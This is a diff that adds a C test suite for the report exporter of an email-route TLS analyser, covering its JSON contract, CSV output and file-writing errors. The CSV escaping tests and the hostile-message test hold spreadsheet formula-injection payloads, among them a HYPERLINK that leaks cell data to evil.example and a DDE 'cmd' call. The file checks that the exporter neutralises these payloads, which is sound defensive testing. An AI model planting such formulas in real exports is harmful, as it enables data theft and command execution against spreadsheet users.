@@ -1,0 +1,685 @@
+/* report.c: every report format, through hl_report_render() and hl_report_write_file()
+ *
+ * SPDX-License-Identifier: GPL-3.0-or-later
+ */
+#define _GNU_SOURCE   /* memmem */
+#include "config.h"
+
+#include <glib/gstdio.h>
+#include <string.h>
+#include <sys/stat.h>
+#include <unistd.h>
+
+#include "hoplock.h"
+#include "hl-report-model-private.h"
+
+/* ---------------------------------------------------------------------------
+ * Helpers
+ * ------------------------------------------------------------------------- */
+
+static char *
+source_path (const char *first,
+             ...)
+{
+  const char *src = g_getenv ("HL_SOURCE_DIR");
+  g_autoptr(GPtrArray) parts = g_ptr_array_new ();
+  const char *part;
+  va_list ap;
+
+  g_ptr_array_add (parts, (gpointer) (src ? src : HL_SOURCE_DIR));
+  va_start (ap, first);
+  for (part = first; part != NULL; part = va_arg (ap, const char *))
+    g_ptr_array_add (parts, (gpointer) part);
+  va_end (ap);
+  g_ptr_array_add (parts, NULL);
+  return g_build_filenamev ((char **) parts->pdata);
+}
+
+static HlRoute *
+load (const char *dir,
+      const char *name)
+{
+  g_autofree char *path = strcmp (dir, "samples") == 0
+                          ? source_path ("data", "samples", name, NULL)
+                          : source_path ("tests", dir, name, NULL);
+  g_autoptr(GFile) file = g_file_new_for_path (path);
+  g_autoptr(GError) error = NULL;
+  HlRoute *route = hl_route_new_from_file (file, NULL, &error);
+
+  g_assert_no_error (error);
+  g_assert_nonnull (route);
+  return route;
+}
+
+static char *
+render (HlRoute        *route,
+        HlReportFormat  format,
+        HlTextFlags     flags)
+{
+  g_autoptr(GError) error = NULL;
+  g_autoptr(GBytes) bytes = hl_report_render (&route, 1, format, flags, &error);
+  gsize len;
+  const char *data;
+
+  g_assert_no_error (error);
+  g_assert_nonnull (bytes);
+  data = g_bytes_get_data (bytes, &len);
+  g_assert_cmpuint (len, >, 0);
+  return g_strndup (data, len);
+}
+
+static guint
+count (const char *haystack,
+       const char *needle)
+{
+  guint n = 0;
+
+  for (const char *p = strstr (haystack, needle); p != NULL; p = strstr (p + 1, needle))
+    n++;
+  return n;
+}
+
+typedef struct
+{
+  const char *in;
+  const char *out;
+} EscapeCase;
+
+/* ---------------------------------------------------------------------------
+ * The table of formats
+ * ------------------------------------------------------------------------- */
+
+typedef struct
+{
+  HlReportFormat format;
+  const char *name;
+  const char *extension;
+  const char *mime_type;
+} FormatCase;
+
+static const FormatCase formats[] = {
+  { HL_REPORT_FORMAT_TEXT, "text", "txt", "text/plain" },
+  { HL_REPORT_FORMAT_JSON, "json", "json", "application/json" },
+  { HL_REPORT_FORMAT_JSON_LINES, "jsonl", "jsonl", "application/jsonl" },
+  { HL_REPORT_FORMAT_CSV, "csv", "csv", "text/csv" },
+};
+
+static void
+test_formats (void)
+{
+  HlReportFormat f;
+
+  g_assert_cmpuint (G_N_ELEMENTS (formats), ==, HL_REPORT_N_FORMATS);
+  for (guint i = 0; i < G_N_ELEMENTS (formats); i++)
+    {
+      const FormatCase *c = &formats[i];
+
+      g_assert_cmpstr (hl_report_format_to_string (c->format), ==, c->name);
+      g_assert_cmpstr (hl_report_format_extension (c->format), ==, c->extension);
+      g_assert_cmpstr (hl_report_format_mime_type (c->format), ==, c->mime_type);
+      g_assert_cmpuint (strlen (hl_report_format_label (c->format)), >, 0);
+      g_assert_true (hl_report_format_from_string (c->name, &f));
+      g_assert_cmpint (f, ==, c->format);
+      g_assert_true (hl_report_format_from_string (c->extension, &f));
+      g_assert_cmpint (f, ==, c->format);
+    }
+  g_assert_true (hl_report_format_from_string ("CSV", &f));
+  g_assert_cmpint (f, ==, HL_REPORT_FORMAT_CSV);
+  g_assert_false (hl_report_format_from_string ("docx", NULL));
+  g_assert_false (hl_report_format_from_string ("", NULL));
+}
+
+/* Every format renders every sample, the hostile message, and no message at all. */
+static void
+test_render_all (void)
+{
+  const char *samples[] = { "example.eml", "all-encrypted.eml", "one-clear-hop.eml", "local-hops.eml" };
+  HlRoute *routes[G_N_ELEMENTS (samples) + 1];
+
+  for (guint i = 0; i < G_N_ELEMENTS (samples); i++)
+    routes[i] = load ("samples", samples[i]);
+  routes[G_N_ELEMENTS (samples)] = load ("report", "hostile.eml");
+
+  for (HlReportFormat f = 0; f < HL_REPORT_N_FORMATS; f++)
+    {
+      g_autoptr(GError) error = NULL;
+      g_autoptr(GBytes) all = hl_report_render (routes, G_N_ELEMENTS (routes), f, 0, &error);
+      g_autoptr(GBytes) none = NULL;
+
+      g_assert_no_error (error);
+      g_assert_cmpuint (g_bytes_get_size (all), >, 100);
+      none = hl_report_render (routes, 0, f, 0, &error);
+      g_assert_no_error (error);
+      g_assert_nonnull (none);
+    }
+  for (guint i = 0; i < G_N_ELEMENTS (routes); i++)
+    hl_route_unref (routes[i]);
+}
+
+/* ---------------------------------------------------------------------------
+ * JSON
+ * ------------------------------------------------------------------------- */
+
+typedef enum { T_STRING, T_INT, T_BOOL, T_ARRAY, T_OBJECT, T_STRING_OR_NULL, T_INT_OR_NULL } JsonType;
+
+typedef struct
+{
+  const char *path;     /* members separated by "." */
+  JsonType type;
+} JsonKey;
+
+/* The hoplock-report/1 contract of DESIGN.md. */
+static const JsonKey contract[] = {
+  { "schema", T_STRING },
+  { "source", T_OBJECT }, { "source.name", T_STRING }, { "source.bytes", T_INT },
+  { "message", T_OBJECT }, { "message.subject", T_STRING_OR_NULL }, { "message.from", T_STRING_OR_NULL },
+  { "message.to", T_STRING_OR_NULL }, { "message.date", T_STRING_OR_NULL },
+  { "message.message_id", T_STRING_OR_NULL },
+  { "summary", T_OBJECT }, { "summary.hops", T_INT }, { "summary.encrypted", T_INT },
+  { "summary.unencrypted", T_INT }, { "summary.local", T_INT }, { "summary.unknown", T_INT },
+  { "summary.verdict", T_STRING }, { "summary.weakest_hop", T_INT_OR_NULL },
+  { "summary.weakest_rating", T_STRING_OR_NULL }, { "summary.transit_s", T_INT_OR_NULL },
+  { "summary.sentence", T_STRING },
+  { "hops", T_ARRAY }, { "warnings", T_ARRAY },
+};
+
+static const JsonKey hop_contract[] = {
+  { "index", T_INT }, { "raw", T_STRING },
+  { "from", T_OBJECT }, { "from.helo", T_STRING_OR_NULL }, { "from.rdns", T_STRING_OR_NULL },
+  { "from.ip", T_STRING_OR_NULL }, { "from.port", T_INT_OR_NULL },
+  { "by", T_OBJECT }, { "by.host", T_STRING_OR_NULL }, { "by.software", T_STRING_OR_NULL },
+  { "with", T_STRING_OR_NULL }, { "via", T_STRING_OR_NULL }, { "id", T_STRING_OR_NULL },
+  { "for", T_STRING_OR_NULL }, { "envelope_from", T_STRING_OR_NULL },
+  { "date", T_STRING_OR_NULL }, { "date_utc", T_STRING_OR_NULL }, { "delay_s", T_INT_OR_NULL },
+  { "tls", T_OBJECT }, { "tls.state", T_STRING }, { "tls.evidence", T_STRING },
+  { "tls.version", T_STRING_OR_NULL }, { "tls.version_raw", T_STRING_OR_NULL },
+  { "tls.cipher", T_STRING_OR_NULL }, { "tls.cipher_iana", T_STRING_OR_NULL },
+  { "tls.bits", T_INT_OR_NULL }, { "tls.alg_bits", T_INT_OR_NULL },
+  { "tls.key_exchange", T_STRING_OR_NULL }, { "tls.verify", T_STRING_OR_NULL },
+  { "tls.verify_raw", T_STRING_OR_NULL }, { "tls.rating", T_STRING },
+  { "tls.rating_reasons", T_ARRAY },
+  { "authenticated", T_BOOL }, { "kind", T_STRING }, { "mta", T_STRING_OR_NULL },
+  { "tokens", T_ARRAY }, { "warnings", T_ARRAY },
+};
+
+static JsonNode *
+member (JsonObject *object,
+        const char *path)
+{
+  g_auto(GStrv) parts = g_strsplit (path, ".", -1);
+  JsonNode *node = NULL;
+
+  for (guint i = 0; parts[i] != NULL; i++)
+    {
+      g_assert_nonnull (object);
+      if (!json_object_has_member (object, parts[i]))
+        g_error ("no member “%s”", path);
+      node = json_object_get_member (object, parts[i]);
+      object = JSON_NODE_HOLDS_OBJECT (node) ? json_node_get_object (node) : NULL;
+    }
+  return node;
+}
+
+static void
+check_types (JsonObject    *object,
+             const JsonKey *keys,
+             guint          n_keys)
+{
+  for (guint i = 0; i < n_keys; i++)
+    {
+      JsonNode *node = member (object, keys[i].path);
+      gboolean null = JSON_NODE_HOLDS_NULL (node);
+      gboolean value = JSON_NODE_HOLDS_VALUE (node);
+      GType vt = value ? json_node_get_value_type (node) : G_TYPE_INVALID;
+      gboolean ok = FALSE;
+
+      switch (keys[i].type)
+        {
+        case T_STRING: ok = vt == G_TYPE_STRING; break;
+        case T_INT: ok = vt == G_TYPE_INT64; break;
+        case T_BOOL: ok = vt == G_TYPE_BOOLEAN; break;
+        case T_ARRAY: ok = JSON_NODE_HOLDS_ARRAY (node); break;
+        case T_OBJECT: ok = JSON_NODE_HOLDS_OBJECT (node); break;
+        case T_STRING_OR_NULL: ok = null || vt == G_TYPE_STRING; break;
+        case T_INT_OR_NULL: ok = null || vt == G_TYPE_INT64; break;
+        default: g_assert_not_reached ();
+        }
+      if (!ok)
+        g_error ("“%s” has the wrong type", keys[i].path);
+    }
+}
+
+static void
+test_json_contract (void)
+{
+  g_autoptr(HlRoute) route = load ("samples", "example.eml");
+  g_autofree char *json = render (route, HL_REPORT_FORMAT_JSON, 0);
+  g_autoptr(JsonParser) parser = json_parser_new ();
+  g_autoptr(JsonParser) again = json_parser_new ();
+  g_autoptr(JsonGenerator) gen = json_generator_new ();
+  g_autoptr(GError) error = NULL;
+  g_autofree char *regenerated = NULL;
+  JsonObject *root, *hop;
+  JsonArray *hops, *reasons;
+
+  json_parser_load_from_data (parser, json, -1, &error);
+  g_assert_no_error (error);
+  g_assert_true (JSON_NODE_HOLDS_OBJECT (json_parser_get_root (parser)));
+  root = json_node_get_object (json_parser_get_root (parser));
+  check_types (root, contract, G_N_ELEMENTS (contract));
+  hops = json_object_get_array_member (root, "hops");
+  g_assert_cmpuint (json_array_get_length (hops), ==, 1);
+  hop = json_array_get_object_element (hops, 0);
+  check_types (hop, hop_contract, G_N_ELEMENTS (hop_contract));
+
+  /* The example's values (DESIGN.md) */
+  g_assert_cmpstr (json_object_get_string_member (root, "schema"), ==, "hoplock-report/1");
+  g_assert_cmpstr (json_node_get_string (member (root, "source.name")), ==, "example.eml");
+  g_assert_cmpstr (json_node_get_string (member (root, "message.subject")), ==,
+                   "Quotation for the July shipment");
+  g_assert_cmpstr (json_node_get_string (member (root, "message.message_id")), ==,
+                   "20050717203902.GA1230@mail.uexport.com");
+  g_assert_cmpint (json_node_get_int (member (root, "summary.hops")), ==, 1);
+  g_assert_cmpint (json_node_get_int (member (root, "summary.encrypted")), ==, 1);
+  g_assert_cmpint (json_node_get_int (member (root, "summary.unencrypted")), ==, 0);
+  g_assert_cmpstr (json_node_get_string (member (root, "summary.verdict")), ==, "all-encrypted");
+  g_assert_cmpint (json_node_get_int (member (root, "summary.weakest_hop")), ==, 1);
+  g_assert_cmpstr (json_node_get_string (member (root, "summary.weakest_rating")), ==, "weak");
+  g_assert_cmpstr (json_node_get_string (member (root, "summary.sentence")), ==,
+                   "The one network hop was encrypted.");
+  g_assert_cmpstr (json_node_get_string (member (hop, "from.helo")), ==, "mail.uexport.com");
+  g_assert_cmpstr (json_node_get_string (member (hop, "from.ip")), ==, "192.168.1.1");
+  g_assert_cmpstr (json_node_get_string (member (hop, "by.host")), ==, "mail.lint.com");
+  g_assert_cmpstr (json_node_get_string (member (hop, "by.software")), ==, "8.12.9/8.12.9");
+  g_assert_cmpstr (json_node_get_string (member (hop, "with")), ==, "ESMTP");
+  g_assert_cmpstr (json_node_get_string (member (hop, "id")), ==, "h0UGn9P7001230");
+  g_assert_cmpstr (json_node_get_string (member (hop, "date")), ==, "2005-07-17T15:39:10-05:00");
+  g_assert_cmpstr (json_node_get_string (member (hop, "date_utc")), ==, "2005-07-17T20:39:10Z");
+  g_assert_cmpstr (json_node_get_string (member (hop, "tls.state")), ==, "encrypted");
+  g_assert_cmpstr (json_node_get_string (member (hop, "tls.evidence")), ==, "tls-clause");
+  g_assert_true (JSON_NODE_HOLDS_NULL (member (hop, "tls.version")));
+  g_assert_cmpstr (json_node_get_string (member (hop, "tls.version_raw")), ==, "TLSv1/SSLv3");
+  g_assert_cmpstr (json_node_get_string (member (hop, "tls.cipher")), ==, "EDH-RSA-DES-CBC3-SHA");
+  g_assert_cmpstr (json_node_get_string (member (hop, "tls.cipher_iana")), ==,
+                   "TLS_DHE_RSA_WITH_3DES_EDE_CBC_SHA");
+  g_assert_cmpint (json_node_get_int (member (hop, "tls.bits")), ==, 168);
+  g_assert_cmpstr (json_node_get_string (member (hop, "tls.verify")), ==, "verified");
+  g_assert_cmpstr (json_node_get_string (member (hop, "tls.verify_raw")), ==, "OK");
+  g_assert_cmpstr (json_node_get_string (member (hop, "tls.rating")), ==, "weak");
+  reasons = json_node_get_array (member (hop, "tls.rating_reasons"));
+  g_assert_cmpuint (json_array_get_length (reasons), ==, 3);
+  g_assert_cmpstr (json_object_get_string_member (json_array_get_object_element (reasons, 0), "id"),
+                   ==, "version.ambiguous");
+  g_assert_cmpstr (json_node_get_string (member (hop, "mta")), ==, "sendmail");
+  g_assert_false (json_node_get_boolean (member (hop, "authenticated")));
+
+  /* Round trip: what json-glib reads back and writes again is the same document. */
+  json_generator_set_root (gen, json_parser_get_root (parser));
+  json_generator_set_pretty (gen, TRUE);
+  regenerated = json_generator_to_data (gen, NULL);
+  json_parser_load_from_data (again, regenerated, -1, &error);
+  g_assert_no_error (error);
+  g_assert_true (json_node_equal (json_parser_get_root (parser), json_parser_get_root (again)));
+  g_assert_cmpstr (g_strstrip (regenerated), ==, g_strstrip (json));
+}
+
+/* Several messages: JSON is an array, JSON Lines one object a line. */
+static void
+test_json_many (void)
+{
+  HlRoute *routes[] = { load ("samples", "example.eml"), load ("samples", "one-clear-hop.eml") };
+  g_autoptr(GError) error = NULL;
+  g_autoptr(GBytes) array = hl_report_render (routes, 2, HL_REPORT_FORMAT_JSON, 0, &error);
+  g_autoptr(GBytes) lines = hl_report_render (routes, 2, HL_REPORT_FORMAT_JSON_LINES, 0, &error);
+  g_autoptr(JsonParser) parser = json_parser_new ();
+  g_autofree char *text = g_strndup (g_bytes_get_data (lines, NULL), g_bytes_get_size (lines));
+  g_auto(GStrv) split = g_strsplit (text, "\n", -1);
+  JsonArray *a;
+
+  g_assert_no_error (error);
+  json_parser_load_from_data (parser, g_bytes_get_data (array, NULL), g_bytes_get_size (array), &error);
+  g_assert_no_error (error);
+  a = json_node_get_array (json_parser_get_root (parser));
+  g_assert_cmpuint (json_array_get_length (a), ==, 2);
+  g_assert_cmpstr (json_object_get_string_member (json_object_get_object_member (
+                     json_array_get_object_element (a, 1), "source"), "name"), ==, "one-clear-hop.eml");
+
+  /* two lines and the empty string after the last newline */
+  g_assert_cmpuint (g_strv_length (split), ==, 3);
+  g_assert_cmpstr (split[2], ==, "");
+  for (guint i = 0; i < 2; i++)
+    {
+      json_parser_load_from_data (parser, split[i], -1, &error);
+      g_assert_no_error (error);
+      g_assert_true (JSON_NODE_HOLDS_OBJECT (json_parser_get_root (parser)));
+    }
+  hl_route_unref (routes[0]);
+  hl_route_unref (routes[1]);
+}
+
+/* ---------------------------------------------------------------------------
+ * CSV
+ * ------------------------------------------------------------------------- */
+
+/* A strict RFC 4180 reader: rows of cells; fails the test on anything else. */
+static GPtrArray *
+csv_parse (const char *text)
+{
+  GPtrArray *rows = g_ptr_array_new_with_free_func ((GDestroyNotify) g_strfreev);
+  GPtrArray *row = g_ptr_array_new ();
+  GString *cell = g_string_new (NULL);
+  const char *p = text;
+
+  while (*p)
+    {
+      if (*p == '"')
+        {
+          for (p++;; p++)
+            {
+              g_assert_true (*p != '\0');
+              if (*p == '"' && p[1] == '"')
+                g_string_append_c (cell, *p++);
+              else if (*p == '"')
+                break;
+              else
+                g_string_append_c (cell, *p);
+            }
+          p++;
+        }
+      else
+        while (*p && *p != ',' && *p != '\r')
+          {
+            g_assert_true (*p != '"' && *p != '\n');
+            g_string_append_c (cell, *p++);
+          }
+      g_ptr_array_add (row, g_strdup (cell->str));
+      g_string_truncate (cell, 0);
+      if (*p == ',')
+        p++;
+      else
+        {
+          g_assert_true (p[0] == '\r' && p[1] == '\n');
+          p += 2;
+          g_ptr_array_add (row, NULL);
+          g_ptr_array_add (rows, g_ptr_array_free (row, FALSE));
+          row = g_ptr_array_new ();
+        }
+    }
+  g_assert_cmpuint (row->len, ==, 0);
+  g_ptr_array_free (row, TRUE);
+  g_string_free (cell, TRUE);
+  return rows;
+}
+
+static int
+column (char      **header,
+        const char *name)
+{
+  for (int i = 0; header[i] != NULL; i++)
+    if (strcmp (header[i], name) == 0)
+      return i;
+  g_error ("no column “%s”", name);
+  return -1;
+}
+
+static const char *const csv_header =
+  "source,subject,from,to,message_date,message_id,verdict,hop,hops,from_helo,from_rdns,from_ip,"
+  "by_host,by_software,with,id,for,hop_date,hop_date_utc,delay_s,tls_state,evidence,tls_version,"
+  "tls_version_raw,cipher,cipher_iana,bits,verify,verify_raw,rating,rating_reasons,kind,mta,"
+  "authenticated,warnings,raw\r\n";
+
+static void
+test_csv_example (void)
+{
+  g_autoptr(HlRoute) route = load ("samples", "example.eml");
+  g_autofree char *csv = render (route, HL_REPORT_FORMAT_CSV, 0);
+  g_autoptr(GPtrArray) rows = csv_parse (csv);
+  char **h, **r;
+
+  g_assert_true (g_str_has_prefix (csv, csv_header));   /* no BOM, CRLF */
+  g_assert_true (g_utf8_validate (csv, -1, NULL));
+  g_assert_cmpuint (rows->len, ==, 2);
+  h = rows->pdata[0];
+  r = rows->pdata[1];
+  g_assert_cmpuint (g_strv_length (h), ==, 36);
+  g_assert_cmpuint (g_strv_length (r), ==, 36);
+  g_assert_cmpstr (r[column (h, "source")], ==, "example.eml");
+  g_assert_cmpstr (r[column (h, "subject")], ==, "Quotation for the July shipment");
+  g_assert_cmpstr (r[column (h, "from")], ==, "Export Department <export@uexport.com>");
+  g_assert_cmpstr (r[column (h, "message_id")], ==, "20050717203902.GA1230@mail.uexport.com");
+  g_assert_cmpstr (r[column (h, "verdict")], ==, "all-encrypted");
+  g_assert_cmpstr (r[column (h, "hop")], ==, "1");
+  g_assert_cmpstr (r[column (h, "from_helo")], ==, "mail.uexport.com");
+  g_assert_cmpstr (r[column (h, "from_ip")], ==, "192.168.1.1");
+  g_assert_cmpstr (r[column (h, "by_host")], ==, "mail.lint.com");
+  g_assert_cmpstr (r[column (h, "with")], ==, "ESMTP");
+  g_assert_cmpstr (r[column (h, "hop_date")], ==, "2005-07-17T15:39:10-05:00");
+  g_assert_cmpstr (r[column (h, "delay_s")], ==, "");
+  g_assert_cmpstr (r[column (h, "tls_state")], ==, "encrypted");
+  g_assert_cmpstr (r[column (h, "tls_version")], ==, "");
+  g_assert_cmpstr (r[column (h, "tls_version_raw")], ==, "TLSv1/SSLv3");
+  g_assert_cmpstr (r[column (h, "cipher")], ==, "EDH-RSA-DES-CBC3-SHA");
+  g_assert_cmpstr (r[column (h, "bits")], ==, "168");
+  g_assert_cmpstr (r[column (h, "verify")], ==, "verified");
+  g_assert_cmpstr (r[column (h, "rating")], ==, "weak");
+  g_assert_cmpstr (r[column (h, "rating_reasons")], ==, "version.ambiguous; cipher.3des; cipher.cbc");
+  g_assert_cmpstr (r[column (h, "authenticated")], ==, "false");
+  g_assert_true (g_str_has_prefix (r[column (h, "raw")], "from mail.uexport.com (mail.uexport.com[192.168.1.1])"));
+}
+
+/* Rows of every message, one per hop; a message without hops keeps one row. */
+static void
+test_csv_many (void)
+{
+  g_autoptr(GError) error = NULL;
+  HlRoute *routes[] = { load ("samples", "example.eml"), load ("samples", "all-encrypted.eml"),
+                        load ("samples", "one-clear-hop.eml") };
+  g_autoptr(GBytes) bytes = hl_report_render (routes, 3, HL_REPORT_FORMAT_CSV, 0, &error);
+  g_autofree char *csv = g_strndup (g_bytes_get_data (bytes, NULL), g_bytes_get_size (bytes));
+  g_autoptr(GPtrArray) rows = csv_parse (csv);
+  g_autoptr(HlRoute) empty = NULL;
+  g_autofree char *empty_csv = NULL;
+  g_autoptr(GPtrArray) empty_rows = NULL;
+  char **h = rows->pdata[0];
+
+  g_assert_cmpuint (rows->len, ==, 1 + 1 + 3 + 3);
+  for (guint i = 1; i < rows->len; i++)
+    g_assert_cmpuint (g_strv_length (rows->pdata[i]), ==, 36);
+  g_assert_cmpstr (((char **) rows->pdata[2])[column (h, "source")], ==, "all-encrypted.eml");
+  g_assert_cmpstr (((char **) rows->pdata[4])[column (h, "hop")], ==, "3");
+  g_assert_cmpstr (((char **) rows->pdata[6])[column (h, "verdict")], ==, "partly-encrypted");
+  g_assert_cmpstr (((char **) rows->pdata[6])[column (h, "tls_state")], ==, "unencrypted");
+  g_assert_cmpstr (((char **) rows->pdata[6])[column (h, "delay_s")], ==, "1");
+  g_assert_cmpuint (count (csv, "\r\n"), ==, 8);
+
+  empty = hl_route_new_from_data ("Subject: none\r\nFrom: a@b.example\r\n\r\n", 35, "none.eml", &error);
+  g_assert_no_error (error);
+  empty_csv = render (empty, HL_REPORT_FORMAT_CSV, 0);
+  empty_rows = csv_parse (empty_csv);
+  g_assert_cmpuint (empty_rows->len, ==, 2);
+  g_assert_cmpstr (((char **) empty_rows->pdata[1])[column (h, "subject")], ==, "none");
+  g_assert_cmpstr (((char **) empty_rows->pdata[1])[column (h, "verdict")], ==, "no-hops");
+  g_assert_cmpstr (((char **) empty_rows->pdata[1])[column (h, "hop")], ==, "");
+
+  for (guint i = 0; i < G_N_ELEMENTS (routes); i++)
+    hl_route_unref (routes[i]);
+}
+
+static const EscapeCase csv_cases[] = {
+  { NULL, "" },
+  { "", "" },
+  { "plain", "plain" },
+  { "ok=1", "ok=1" },
+  { "a,b", "\"a,b\"" },
+  { "say \"hi\"", "\"say \"\"hi\"\"\"" },
+  { " padded ", "\" padded \"" },
+  { "=1+1", "\"'=1+1\"" },
+  { "+SUM(1)", "\"'+SUM(1)\"" },
+  { "-2+3", "\"'-2+3\"" },
+  { "@SUM(A1)", "\"'@SUM(A1)\"" },
+  { "\t=1", "\"' =1\"" },                     /* a tab becomes a space, the cell stays marked */
+  { "\r=1", "\"'\xef\xbf\xbd=1\"" },          /* a CR becomes U+FFFD */
+  { "=HYPERLINK(\"http://x\",\"y\")", "\"'=HYPERLINK(\"\"http://x\"\",\"\"y\"\")\"" },
+  { "line\nbreak", "line break" },
+  { "x\x1b[31m", "x\xef\xbf\xbd[31m" },
+};
+
+static void
+test_csv_escape (gconstpointer data)
+{
+  const EscapeCase *c = data;
+  g_autoptr(GString) out = g_string_new (NULL);
+
+  hl_report_append_csv (out, c->in);
+  g_assert_cmpstr (out->str, ==, c->out);
+}
+
+/* No cell of a hostile message can start a formula. */
+static void
+test_csv_hostile (void)
+{
+  g_autoptr(HlRoute) route = load ("report", "hostile.eml");
+  g_autofree char *csv = render (route, HL_REPORT_FORMAT_CSV, 0);
+  g_autoptr(GPtrArray) rows = csv_parse (csv);
+  char **h = rows->pdata[0];
+  char **oldest, **newest;
+  guint marked = 0;
+
+  g_assert_cmpuint (rows->len, ==, 4);
+  oldest = rows->pdata[1];
+  newest = rows->pdata[3];
+  g_assert_true (g_str_has_prefix (oldest[column (h, "subject")], "'=HYPERLINK(\"http://evil.example/?\"&A1"));
+  g_assert_cmpstr (oldest[column (h, "to")], ==, "'+victim@example.com");
+  g_assert_cmpstr (oldest[column (h, "from_helo")], ==, "<script>");
+  g_assert_cmpstr (((char **) rows->pdata[2])[column (h, "from_helo")], ==, "'@SUM");
+  g_assert_cmpstr (newest[column (h, "from_helo")], ==, "'=cmd|'/C_calc'!A0");
+  g_assert_cmpstr (newest[column (h, "by_host")], ==, "'+SUM");
+  g_assert_cmpstr (newest[column (h, "id")], ==, "'-2+3");
+
+  for (guint i = 1; i < rows->len; i++)
+    for (char **cell = rows->pdata[i]; *cell != NULL; cell++)
+      {
+        g_assert_null (strchr ("=+-@\t\r", (*cell)[0]) && (*cell)[0] ? *cell : NULL);
+        g_assert_null (strchr (*cell, '\x1b'));
+        if ((*cell)[0] == '\'')
+          marked++;
+      }
+  /* subject and to on each of 3 rows, and 4 hop cells */
+  g_assert_cmpuint (marked, ==, 3 * 2 + 4);
+}
+
+/* ---------------------------------------------------------------------------
+ * Writing files
+ * ------------------------------------------------------------------------- */
+
+static void
+test_write_file (void)
+{
+  g_autoptr(HlRoute) route = load ("samples", "one-clear-hop.eml");
+  g_autofree char *dir = g_dir_make_tmp ("hoplock-report-XXXXXX", NULL);
+
+  for (HlReportFormat f = 0; f < HL_REPORT_N_FORMATS; f++)
+    {
+      g_autofree char *name = g_strdup_printf ("report.%s", hl_report_format_extension (f));
+      g_autofree char *path = g_build_filename (dir, name, NULL);
+      g_autoptr(GFile) file = g_file_new_for_path (path);
+      g_autoptr(GError) error = NULL;
+      g_autoptr(GBytes) expected = hl_report_render (&route, 1, f, 0, &error);
+      g_autofree char *contents = NULL;
+      gsize len;
+
+      g_assert_true (g_file_set_contents (path, "older", -1, NULL));
+      g_assert_true (hl_report_write_file (&route, 1, f, 0, file, NULL, &error));
+      g_assert_no_error (error);
+      g_assert_true (g_file_get_contents (path, &contents, &len, NULL));
+      g_assert_cmpmem (contents, len, g_bytes_get_data (expected, NULL), g_bytes_get_size (expected));
+      g_unlink (path);
+    }
+  g_rmdir (dir);
+}
+
+/* A folder that cannot be written to: a clear error, nothing left behind, the
+ * older file untouched. Root writes anywhere, so the check runs as "nobody". */
+static void
+test_write_read_only (void)
+{
+  if (g_test_subprocess ())
+    {
+      const char *dir = g_getenv ("HL_REPORT_RO_DIR");
+      g_autoptr(HlRoute) route = load ("samples", "example.eml");
+
+      if (getuid () == 0 && (setgid (65534) != 0 || setuid (65534) != 0))
+        g_error ("cannot become nobody");
+      for (HlReportFormat f = 0; f < HL_REPORT_N_FORMATS; f++)
+        {
+          const char *names[] = { "older.txt", "new" };
+
+          for (guint i = 0; i < G_N_ELEMENTS (names); i++)
+            {
+              g_autofree char *path = g_build_filename (dir, names[i], NULL);
+              g_autoptr(GFile) file = g_file_new_for_path (path);
+              g_autoptr(GError) error = NULL;
+
+              g_assert_false (hl_report_write_file (&route, 1, f, 0, file, NULL, &error));
+              g_assert_error (error, G_IO_ERROR, G_IO_ERROR_PERMISSION_DENIED);
+              g_assert_nonnull (strstr (error->message, dir));
+            }
+        }
+      return;
+    }
+  else
+    {
+      g_autofree char *dir = g_dir_make_tmp ("hoplock-report-XXXXXX", NULL);
+      g_autofree char *older = g_build_filename (dir, "older.txt", NULL);
+      g_autofree char *contents = NULL;
+      g_autoptr(GDir) listing = NULL;
+      const char *name;
+      guint n = 0;
+
+      g_assert_true (g_file_set_contents (older, "the older report", -1, NULL));
+      g_assert_cmpint (g_chmod (older, 0644), ==, 0);
+      g_assert_cmpint (g_chmod (dir, 0555), ==, 0);
+      g_setenv ("HL_REPORT_RO_DIR", dir, TRUE);
+      g_test_trap_subprocess (NULL, 0, G_TEST_SUBPROCESS_INHERIT_STDERR);
+      g_test_trap_assert_passed ();
+
+      listing = g_dir_open (dir, 0, NULL);
+      while ((name = g_dir_read_name (listing)) != NULL)
+        {
+          g_assert_cmpstr (name, ==, "older.txt");
+          n++;
+        }
+      g_assert_cmpuint (n, ==, 1);
+      g_assert_true (g_file_get_contents (older, &contents, NULL, NULL));
+      g_assert_cmpstr (contents, ==, "the older report");
+
+      g_chmod (dir, 0755);
+      g_unlink (older);
+      g_rmdir (dir);
+    }
+}
+
+int
+main (int    argc,
+      char **argv)
+{
+  g_test_init (&argc, &argv, NULL);
+
+  g_test_add_func ("/report/formats", test_formats);
+  g_test_add_func ("/report/render-all", test_render_all);
+  g_test_add_func ("/report/json/contract", test_json_contract);
+  g_test_add_func ("/report/json/many", test_json_many);
+  g_test_add_func ("/report/csv/example", test_csv_example);
+  g_test_add_func ("/report/csv/many", test_csv_many);
+  for (guint i = 0; i < G_N_ELEMENTS (csv_cases); i++)
+    {
+      g_autofree char *path = g_strdup_printf ("/report/csv/escape/%u", i);
+
+      g_test_add_data_func (path, &csv_cases[i], test_csv_escape);
+    }
+  g_test_add_func ("/report/csv/hostile", test_csv_hostile);
+  g_test_add_func ("/report/write-file", test_write_file);
+  g_test_add_func ("/report/write-read-only", test_write_read_only);
+
+  return g_test_run ();
+}
